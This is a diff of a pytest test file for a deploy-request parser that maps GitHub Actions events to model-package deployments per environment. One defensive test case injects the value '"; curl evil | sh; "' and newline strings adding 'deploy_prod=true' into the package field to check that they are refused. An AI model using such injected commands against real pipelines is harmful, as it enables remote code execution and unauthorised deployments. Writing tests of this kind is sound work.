@@ -29,21 +29,68 @@ def dispatch(environment="staging", arn=ARN, action="model-approved"):
 def test_a_model_approved_dispatch_selects_its_environment():
     outputs = deploy_request.read("repository_dispatch", dispatch())
     assert outputs == {
-        "environment": "staging",
-        "model_package_arn": ARN,
+        "environments": "staging",
+        "summary": f"staging: {ARN}",
         "deploy_dev": "false",
+        "arn_dev": "",
         "deploy_staging": "true",
+        "arn_staging": ARN,
         "deploy_prod": "false",
+        "arn_prod": "",
     }
 
 
 def test_a_manual_run_may_ask_for_the_latest_approved_package():
     event = {"inputs": {"environment": "prod", "model_package_arn": "Latest"}}
     outputs = deploy_request.read("workflow_dispatch", event)
-    assert outputs["model_package_arn"] == "latest"
+    assert outputs["arn_prod"] == "latest"
     assert outputs["deploy_prod"] == "true"
     empty = deploy_request.read("workflow_dispatch", {"inputs": {"environment": "dev"}})
-    assert empty["model_package_arn"] == "latest"
+    assert empty["arn_dev"] == "latest"
+
+
+def record(environment: str, arn: str) -> str:
+    return json.dumps({"environment": environment, "model_package_arn": arn, "version": 1})
+
+
+def test_a_push_that_changes_records_deploys_what_they_name():
+    """A revert of deployments/prod.json on main names the previous package: it is rolled out."""
+    previous = ARN.replace("staging/7", "prod/6").replace("staging", "prod")
+    files = {
+        "deployments/prod.json": record("prod", previous),
+        "deployments/dev.json": record("dev", ARN.replace("staging", "dev")),
+    }
+    event = {
+        "commits": [
+            {"added": [], "modified": ["deployments/prod.json", "docs/cicd.md"]},
+            {"added": ["deployments/dev.json"], "modified": []},
+        ]
+    }
+    outputs = deploy_request.read("push", event, read_file=files.__getitem__)
+    assert outputs["environments"] == "dev-prod"
+    assert outputs["deploy_prod"] == "true" and outputs["arn_prod"] == previous
+    assert outputs["deploy_dev"] == "true"
+    assert outputs["deploy_staging"] == "false" and outputs["arn_staging"] == ""
+
+
+def test_a_push_without_records_deploys_nothing():
+    outputs = deploy_request.read("push", {"commits": [{"modified": ["deployments/README.md"]}]})
+    assert outputs["environments"] == "none"
+    assert {outputs[f"deploy_{name}"] for name in ("dev", "staging", "prod")} == {"false"}
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (record("prod", "latest"), "not a versioned"),  # a record names a version, never latest
+        (record("staging", ARN), "says environment 'staging'"),
+        ("{not json", "not a readable JSON record"),
+    ],
+)
+def test_a_bad_record_is_refused(content, message):
+    event = {"commits": [{"modified": ["deployments/prod.json"]}]}
+    with pytest.raises(deploy_request.RequestError, match=message):
+        deploy_request.read("push", event, read_file=lambda path: content)
 
 
 @pytest.mark.parametrize(
@@ -57,7 +104,7 @@ def test_a_manual_run_may_ask_for_the_latest_approved_package():
         ("repository_dispatch", dispatch(arn=ARN + '"; curl evil | sh; "'), "not a versioned"),
         ("repository_dispatch", dispatch(arn=ARN + "\n/8"), "not a versioned"),
         ("repository_dispatch", dispatch(arn=ARN + "\ndeploy_prod=true"), "not a versioned"),
-        ("push", {}, "does not start a deployment"),
+        ("pull_request", {}, "does not start a deployment"),
     ],
 )
 def test_malformed_or_hostile_requests_are_refused(event_name, event, message):
@@ -67,7 +114,7 @@ def test_malformed_or_hostile_requests_are_refused(event_name, event, message):
 
 def test_surrounding_whitespace_is_dropped_so_no_output_line_can_be_added():
     outputs = deploy_request.read("repository_dispatch", dispatch(arn=f" {ARN}\n"))
-    assert outputs["model_package_arn"] == ARN
+    assert outputs["arn_staging"] == ARN
     assert all("\n" not in value for value in outputs.values())
 
 
@@ -79,8 +126,8 @@ def test_main_reads_the_event_file_and_writes_outputs(tmp_path, monkeypatch, cap
     monkeypatch.setenv("GITHUB_EVENT_NAME", "repository_dispatch")
     monkeypatch.setenv("GITHUB_OUTPUT", str(outputs))
     assert deploy_request.main() == 0
-    assert "environment=prod\n" in outputs.read_text()
-    assert f"model_package_arn={ARN}\n" in outputs.read_text()
+    assert "environments=prod\n" in outputs.read_text()
+    assert f"arn_prod={ARN}\n" in outputs.read_text()
     event.write_text(json.dumps(dispatch(environment="qa")))
     assert deploy_request.main() == 2
     assert "::error::refused: environment 'qa'" in capsys.readouterr().out
